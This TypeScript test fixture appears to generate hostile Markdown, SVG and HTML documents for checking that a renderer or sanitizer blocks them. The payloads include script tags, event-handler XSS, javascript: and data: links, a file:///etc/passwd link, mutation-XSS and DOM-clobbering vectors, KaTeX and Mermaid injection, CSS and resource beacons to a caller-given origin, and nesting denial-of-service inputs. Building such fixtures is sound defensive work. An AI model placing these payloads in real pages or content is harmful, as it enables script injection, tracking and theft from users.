/** Everything that would run something or fetch something if it were let; `origin` hears of what is fetched. */
export function hostileMarkdown(origin: string): string {
  const run = (from: string) => `fetch('${origin}/ran-${from}');window.hostile='${from}'`;
  return [
    '# Pomegranate report',
    'The pomegranate quota is seven crates.',
    `<script>${run('script')}</script>`,
    `<img src="x" onerror="${run('onerror')}"><img src="${origin}/html-image">`,
    `![picture](${origin}/image) ![reference][r] ![data](data:image/svg+xml;base64,${Buffer.from(hostileSvg(origin)).toString('base64')})`,
    `[r]: ${origin}/reference`,
    `[run](javascript:${encodeURIComponent(run('link'))}) [run](JaVaScRiPt&colon;alert(1)) [run](&#106;avascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [file](file:///etc/passwd) [blob](blob:null/1)`,
    `<a href="javascript:${run('anchor')}" onclick="${run('click')}">press</a> <a href="${origin}/ping" ping="${origin}/pinged">ping</a>`,
    `<iframe src="${origin}/frame" srcdoc="<script>parent.hostile='srcdoc'</script>"></iframe><object data="${origin}/object"></object><embed src="${origin}/embed">`,
    `<svg onload="${run('svg')}"><image href="${origin}/svg-image"/><use href="${origin}/use#x"/><animate onbegin="${run('animate')}" attributeName="x" dur="1s"/><foreignObject><img src=x onerror="${run('foreign')}"></foreignObject></svg>`,
    `<math><mtext></table><mglyph><style><img src=x onerror="${run('mutation')}"></style></mglyph></mtext></math>`,
    `<style>@import url('${origin}/import'); body { background: url('${origin}/background') !important; display: none }</style>`,
    `<link rel="stylesheet" href="${origin}/stylesheet"><link rel="prefetch" href="${origin}/prefetch"><meta http-equiv="refresh" content="0;url=${origin}/refresh"><base href="${origin}/">`,
    `<form action="${origin}/form"><input autofocus onfocus="${run('focus')}"><button formaction="javascript:${run('form')}">go</button></form>`,
    `<video src="${origin}/video" poster="${origin}/poster"></video><audio src="${origin}/audio"></audio><details open ontoggle="${run('toggle')}">x</details>`,
    `$$\\href{javascript:${run('href')}}{x} \\url{javascript:${run('url')}} \\includegraphics{${origin}/katex-image} \\htmlStyle{background:url(${origin}/katex-style)}{x} \\htmlData{x=1}{y} \\htmlId{root}{z}$$`,
    `$\\def\\a{\\a\\a}\\a$ and $\\unicode{x}\\text{<img src=x onerror="${run('katex')}">}$`,
    `$$${'\\begin{matrix}'.repeat(30)}$$`,
    '```mermaid',
    `graph TD; A["<img src=x onerror='${run('mermaid')}'>"] --> B; click A "javascript:${run('mermaidclick')}"; click B href "${origin}/mermaid"`,
    `%%{init: {"securityLevel": "loose", "theme": "x", "themeCSS": "@import url('${origin}/mermaid-css')"}}%%`,
    '```',
    '```html',
    `<script>${run('code')}</script>`,
    '```',
    `<a id="root" name="adiuva" href="x">clobber</a><form id="document"><input name="cookie"></form>`,
    `[${'['.repeat(200)}${'*_'.repeat(200)}`,
    '| a | b |',
    '|---|---|',
    `| <img src=x onerror="${run('cell')}"> | ![c](${origin}/cell) |`,
    'The quota of pomegranates is decided in March.',
  ].join('\n\n');
}

export function hostileSvg(origin: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" onload="fetch('${origin}/svg-onload');window.hostile='svg-file'"><script>fetch('${origin}/svg-script')</script><image xlink:href="${origin}/svg-file-image" width="10" height="10"/><style>@import url('${origin}/svg-import');</style><foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${origin}/svg-frame"/></body></foreignObject><text y="20">Pomegranate drawing</text></svg>`;
}

export function hostileHtml(origin: string): string {
  return `<!doctype html><html><head><title>Pomegranate page</title><base href="${origin}/"><meta http-equiv="refresh" content="0;url=${origin}/refresh"><link rel="stylesheet" href="${origin}/style"><link rel="preconnect" href="${origin}"><script src="${origin}/script"></script><style>body{background:url(${origin}/css)}@font-face{font-family:x;src:url(${origin}/font)}h1{font-family:x}</style></head><body onload="fetch('${origin}/onload');parent.hostile='html'"><h1>Pomegranate page</h1><p>The pomegranate orchard lies behind the mill.</p><img src="${origin}/img" srcset="${origin}/srcset 2x" onerror="top.hostile='img'"><iframe src="${origin}/iframe"></iframe><a href="javascript:top.hostile='a'" target="_top">press</a><form action="${origin}/form" target="_top"><button autofocus>send</button></form><script>try{top.location='${origin}/top'}catch{}</script>${hostileSvg(origin)}</body></html>`;
}
